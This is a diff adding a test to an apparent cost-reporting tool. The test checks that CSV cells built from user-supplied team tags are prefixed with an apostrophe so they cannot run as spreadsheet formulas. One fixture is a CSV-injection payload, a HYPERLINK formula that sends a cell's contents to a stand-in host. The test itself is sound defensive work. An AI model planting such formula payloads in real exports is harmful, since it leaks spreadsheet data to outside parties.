@@ -150,3 +150,26 @@ def test_csv_grouped_by_nothing_is_one_total_row_under_the_header(
     json_out = tmp_path / "r.json"
     render_report(settings, [], T0, END, None, "json", json_out, now=END)
     assert float(body[0][0]) == json.loads(json_out.read_text())["total"]["cost_usd"]
+
+
+def test_csv_cells_from_tags_never_start_a_spreadsheet_formula(db_url: str,
+                                                               tmp_path: Path) -> None:
+    # a team tag is text anyone who can tag an instance wrote: `=HYPERLINK(...)` ran as a
+    # formula in the FinOps lead's spreadsheet. Such a cell starts with an apostrophe; the
+    # figures (a negative gap included) are costguard's own and stay numbers
+    from costguard.report.cells import text_cell
+
+    db = Database(db_url)
+    teams = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1-555", "-ops", "@sum(1)",
+             "\tx", "research", "a=b"]
+    with db.session() as s:
+        for i, team in enumerate(teams):
+            add_interval(s, f"i-{i}", T0, 1, 1.0 + i, team=team, gpus=1)
+    out = tmp_path / "r.csv"
+    render_report(SimpleNamespace(database_url=db_url, costs=None), ["team"], T0, END, None,
+                  "csv", out, now=END)
+    got = {r["team"]: r for r in csv.DictReader(io.StringIO(out.read_text()))}
+    assert set(got) == {"'" + t if t[0] in "=+-@\t" else t for t in teams} | {"total"}
+    assert all(not k.startswith(("=", "+", "-", "@", "\t")) for k in got)
+    assert text_cell("research") == "research" and text_cell("") == ""
+    assert float(got["total"]["cost_usd"]) == sum(1.0 + i for i in range(len(teams)))
